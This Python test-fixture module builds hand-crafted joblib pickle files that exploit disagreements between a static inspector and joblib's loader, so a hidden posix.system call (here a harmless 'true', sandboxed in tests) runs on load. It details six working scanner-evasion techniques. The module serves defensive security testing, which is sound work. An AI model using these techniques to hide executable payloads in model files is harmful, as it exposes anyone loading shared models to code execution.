"""Hand-built joblib files that try to make the inspector and joblib's loader disagree.

joblib writes each numpy array as a ``NumpyArrayWrapper`` placeholder whose BUILD is followed by
the array's raw bytes, read by the loader straight from the file. A static inspector that skips a
different number of bytes than the loader reads, or does not notice a placeholder at all, walks
different opcodes than the loader runs: opcodes hidden in the gap run on ``joblib.load``. Each
builder here returns the bytes of such a file; :data:`HIDDEN` is the call hidden in it
(``posix.system('true')``, blocked by the sandbox in ``tests/sandbox_load.py`` before it runs).
"""

from __future__ import annotations

import struct

PROTO4 = b"\x80\x04"
STOP = b"."
MARK, POP, TUPLE, TUPLE1, TUPLE3 = b"(", b"0", b"t", b"\x85", b"\x87"
EMPTY_TUPLE, EMPTY_DICT, SETITEMS, SETITEM = b")", b"}", b"u", b"s"
REDUCE, BUILD, NEWOBJ, NONE = b"R", b"b", b"\x81", b"N"
NEWFALSE, NEWTRUE, STACK_GLOBAL, MEMOIZE = b"\x89", b"\x88", b"\x93", b"\x94"
EMPTY_LIST, APPEND = b"]", b"a"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE for long text)."""
    data = value.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def integer(value: int) -> bytes:
    """BININT1, BININT2 or BININT."""
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if 0 <= value < 65536:
        return b"M" + struct.pack("<H", value)
    return b"J" + struct.pack("<i", value)


def glob(module: str, name: str) -> bytes:
    return text(module) + text(name) + STACK_GLOBAL


def small_tuple(*items: bytes) -> bytes:
    if not items:
        return EMPTY_TUPLE
    return MARK + b"".join(items) + TUPLE


#: What the loader would run if the inspector missed it: one call to os.system.
HIDDEN = b"cposix\nsystem\n" + text("true") + TUPLE1 + REDUCE + POP


def filler(size: int) -> bytes:
    """``size`` bytes of opcodes that do nothing (NONE POP pairs, BININT1 POP for an odd one)."""
    assert size >= 0
    assert size != 1
    odd = b"K\x00" + POP if size % 2 else b""
    return odd + b"N0" * ((size - len(odd)) // 2)


def dtype(typestr: str, state: tuple[object, ...] | None = None) -> bytes:
    """``numpy.dtype(typestr, False, True)`` with a BUILD of ``state`` (numpy's own by default)."""
    if state is None:
        state = (3, "<", None, None, None, -1, -1, 0)
    return (
        glob("numpy", "dtype")
        + small_tuple(text(typestr), NEWFALSE, NEWTRUE)
        + REDUCE
        + (small_tuple(*(_value(item) for item in state)) + BUILD)
    )


def _value(item: object) -> bytes:
    if item is None:
        return NONE
    if isinstance(item, str):
        return text(item)
    assert isinstance(item, int)
    return integer(item) if item >= 0 else b"J" + struct.pack("<i", item)


def wrapper_state(
    shape: tuple[int, ...],
    typestr: str = "u1",
    *,
    alignment: bool = False,
    extra: bytes = b"",
    dtype_state: tuple[object, ...] | None = None,
) -> bytes:
    """The placeholder's state dictionary as joblib writes it, plus ``extra`` key/value opcodes."""
    items = [
        text("subclass") + glob("numpy", "ndarray"),
        text("shape") + small_tuple(*(integer(n) for n in shape)),
        text("order") + text("C"),
        text("dtype") + dtype(typestr, dtype_state),
        text("allow_mmap") + NEWFALSE,
    ]
    if alignment:
        items.append(text("numpy_array_alignment_bytes") + integer(16))
    return EMPTY_DICT + MARK + b"".join(items) + extra + SETITEMS


def placeholder() -> bytes:
    """``NumpyArrayWrapper.__new__`` through NEWOBJ, as joblib's pickler writes it."""
    return glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ


def honest_array(values: bytes) -> bytes:
    """A uint8 array of ``values`` exactly as joblib lays it out (no alignment)."""
    return placeholder() + wrapper_state((len(values),)) + BUILD + values


def str_subclass_shape_key(size: int = 64) -> bytes:
    """Finding 1: a ``numpy.str_('shape')`` key after the real one: the loader reads 0 bytes.

    Python's dict keeps the first 'shape' key object and takes the later, equal ``str_`` key's
    value, so the loader sees shape (0,) and runs the "array bytes" as opcodes; an inspector that
    only looks at plain-str keys skips ``size`` bytes instead.
    """
    str_key = glob("numpy", "str_") + text("shape") + TUPLE1 + REDUCE
    extra = str_key + small_tuple(integer(0))
    body = placeholder() + wrapper_state((size,), extra=extra) + BUILD
    data = HIDDEN + filler(size - len(HIDDEN))
    return PROTO4 + body + data + STOP


def _bytes_header_array() -> tuple[bytes, bytes]:
    """Array data that an inspector which missed the placeholder reads as a BINBYTES header."""
    hidden = HIDDEN + filler(8)
    header = b"B" + struct.pack("<I", len(hidden))
    return header, hidden


def partial_placeholder() -> bytes:
    """Finding 2: the placeholder made by ``partial(_reconstructor, W, object, None)()``.

    The loader reads the 5 "array bytes"; an inspector that does not see a placeholder parses them
    as a BINBYTES header and skips the hidden call as that payload.
    """
    header, hidden = _bytes_header_array()
    built = (
        glob("functools", "partial")
        + small_tuple(
            glob("copyreg", "_reconstructor"),
            glob("joblib.numpy_pickle", "NumpyArrayWrapper"),
            glob("builtins", "object"),
            NONE,
        )
        + REDUCE
        + EMPTY_TUPLE
        + REDUCE
    )
    body = built + wrapper_state((len(header),)) + BUILD + header + hidden
    return PROTO4 + body + POP + NONE + STOP


def class_swap_placeholder() -> bytes:
    """A plain instance whose BUILD slot state sets ``__class__`` to the placeholder class."""
    header, hidden = _bytes_header_array()
    plain_class = glob("sklearn.utils.deprecation", "deprecated")  # no __setstate__ of its own
    instance = glob("copyreg", "_reconstructor") + small_tuple(
        plain_class, glob("builtins", "object"), NONE
    )
    state_items = [text(k) + v for k, v in _state_items(len(header))]
    slots = EMPTY_DICT + text("__class__") + glob("joblib.numpy_pickle", "NumpyArrayWrapper")
    slots += SETITEM
    state = small_tuple(EMPTY_DICT + MARK + b"".join(state_items) + SETITEMS, slots)
    body = instance + REDUCE + state + BUILD + header + hidden
    return PROTO4 + body + POP + NONE + STOP


def _state_items(size: int) -> list[tuple[str, bytes]]:
    return [
        ("subclass", glob("numpy", "ndarray")),
        ("shape", small_tuple(integer(size))),
        ("order", text("C")),
        ("dtype", dtype("u1")),
        ("allow_mmap", NEWFALSE),
    ]


def fixed_dtype_with_elsize(size: int = 8) -> bytes:
    """numpy ignores ``elsize`` for fixed-size types: 'f8' with elsize 16 is still 8 bytes.

    The loader reads ``size * 8`` bytes; an inspector trusting ``elsize`` skips ``size * 16``.
    """
    state = (3, "<", None, None, None, 16, 8, 0)
    body = placeholder() + wrapper_state((size,), "f8", dtype_state=state) + BUILD
    gap = size * 8
    data = bytes(gap) + HIDDEN + filler(gap - len(HIDDEN))
    return PROTO4 + body + data + STOP


def array_inside_frame() -> bytes:
    """The placeholder's BUILD inside a FRAME that goes on: the loader reads its data after it.

    Python's unpickler reads the whole frame first; joblib then reads the array bytes straight
    from the file, after the frame, while the opcodes resume inside the frame. An inspector that
    ignores frames reads the data right after BUILD, where the hidden call sits.
    """
    inner = placeholder() + wrapper_state((len(HIDDEN),)) + BUILD + HIDDEN
    frame = b"\x95" + struct.pack("<Q", len(inner)) + inner
    return PROTO4 + frame + filler(len(HIDDEN)) + STOP


def built_twice() -> bytes:
    """The placeholder kept in the memo and BUILT a second time: the loader reads two arrays."""
    header, hidden = _bytes_header_array()
    first = placeholder() + MEMOIZE + wrapper_state((len(header),)) + BUILD
    first += bytes(len(header)) + POP
    again = b"h\x00" + EMPTY_DICT + BUILD + header + hidden
    return PROTO4 + first + again + POP + NONE + STOP


#: Every disagreement attack, by name.
ATTACKS = {
    "numpy.str_ shape key": str_subclass_shape_key,
    "placeholder made by functools.partial": partial_placeholder,
    "placeholder by __class__ in slot state": class_swap_placeholder,
    "elsize on a fixed-size dtype": fixed_dtype_with_elsize,
    "array data inside a frame": array_inside_frame,
    "placeholder built twice": built_twice,
}
